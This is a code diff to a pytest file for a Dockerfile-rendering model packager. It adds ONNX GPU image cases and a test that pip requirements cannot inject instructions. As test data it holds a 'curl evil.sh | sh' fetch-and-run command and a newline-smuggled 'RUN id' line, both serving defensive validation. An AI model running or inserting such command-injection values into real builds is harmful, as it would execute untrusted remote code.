@@ -14,6 +14,8 @@ import pytest
 
 from packager.errors import UserInputError
 from packager.image.render import render_files
+from packager.resolve import gpu_images
+from packager.resolve.gpu_images import gpu_base
 from packager.runtime.config import VllmSettings
 from tests import plans
 
@@ -24,14 +26,20 @@ WEIGHTS = ["model-00001-of-00002.safetensors", "model-00002-of-00002.safetensors
 ONNX_INT8 = plans.with_runtime(dataclasses.replace(BAKED, artefact=plans.ONNX_INT8_SPEC), backend="onnx")
 VLLM_SHARED = plans.with_runtime(SHARED, engine="vllm", vllm=VllmSettings("float32", 256, "shared", 8, 3))
 BAKED_CUDA = plans.with_image(
-    plans.with_runtime(BAKED, engine="vllm", vllm=VllmSettings("bfloat16", 4096, "demo", 16, 1, False)),
+    plans.with_runtime(BAKED, engine="vllm", vllm=VllmSettings("bfloat16", 4096, "demo", 16, 1, "cuda")),
     base_image="vllm/vllm-openai:v0.32.0",
     device="cuda",
 )
 SHARED_CUDA = plans.with_image(
-    plans.with_runtime(SHARED, engine="vllm", vllm=VllmSettings("bfloat16", 4096, "shared", 16, 3, False)),
+    plans.with_runtime(SHARED, engine="vllm", vllm=VllmSettings("bfloat16", 4096, "shared", 16, 3, "cuda")),
     base_image="vllm/vllm-openai:v0.32.0",
     device="cuda",
+)
+ONNX_CUDA = plans.with_image(
+    ONNX_INT8,
+    base_image=gpu_images.PYTORCH_GPU_IMAGE,
+    device="cuda",
+    runtime_packages=gpu_base("packager", "onnx", "none")[1],
 )
 ACCURACY = '{"greedy":0.95,"kind":"onnx-int8","size_ratio":0.26,"top1":0.97}'
 
@@ -54,6 +62,7 @@ def _golden(name: str, text: str) -> None:
         (VLLM_SHARED, "shared-vllm", None),
         (BAKED_CUDA, "baked-vllm-cuda", None),
         (SHARED_CUDA, "shared-vllm-cuda", None),
+        (ONNX_CUDA, "baked-onnx-cuda", ACCURACY),
     ],
 )
 def test_rendered_files_match_golden(plan, prefix, accuracy) -> None:
@@ -71,6 +80,18 @@ def test_runtime_is_told_how_to_load_the_artefact() -> None:
     assert nf4.image.runtime.to_json()["load_quantization"] == "bnb-nf4"
     with pytest.raises(UserInputError, match="unknown runtime backend"):
         render_files(plans.with_runtime(BAKED, backend="tensorrt"), WEIGHTS)
+
+
+@pytest.mark.parametrize("requirement", ["onnx==1.0 && curl evil.sh | sh", "onnx==1.0\nRUN id", "onnx>=1.0", "-e ."])
+def test_a_runtime_requirement_cannot_become_an_instruction(requirement) -> None:
+    with pytest.raises(UserInputError, match="invalid pip requirement"):
+        render_files(plans.with_image(ONNX_CUDA, runtime_packages=(requirement,)), WEIGHTS)
+
+
+def test_the_onnx_gpu_image_installs_onnxruntime_gpu_before_the_weights() -> None:
+    dockerfile = render_files(ONNX_CUDA, WEIGHTS, ACCURACY)["Dockerfile"]
+    assert dockerfile.index("onnxruntime-gpu==") < dockerfile.index("COPY") and "onnxruntime==" not in dockerfile
+    assert "--gpus all" in dockerfile and "RUN" not in render_files(BAKED, WEIGHTS)["Dockerfile"]
 
 
 def test_accuracy_label_cannot_inject_instructions() -> None:
@@ -142,8 +163,8 @@ def test_unknown_layout_is_refused() -> None:
 
 @pytest.mark.parametrize(
     "plan",
-    [BAKED, SHARED, VLLM_SHARED, BAKED_CUDA, SHARED_CUDA],
-    ids=["baked", "shared", "shared-vllm", "baked-vllm-cuda", "shared-vllm-cuda"],
+    [BAKED, SHARED, VLLM_SHARED, BAKED_CUDA, SHARED_CUDA, ONNX_CUDA],
+    ids=["baked", "shared", "shared-vllm", "baked-vllm-cuda", "shared-vllm-cuda", "baked-onnx-cuda"],
 )
 def test_hadolint_passes_without_warnings(plan, tmp_path) -> None:
     hadolint = shutil.which("hadolint") or os.path.join(os.path.dirname(sys.executable), "hadolint")
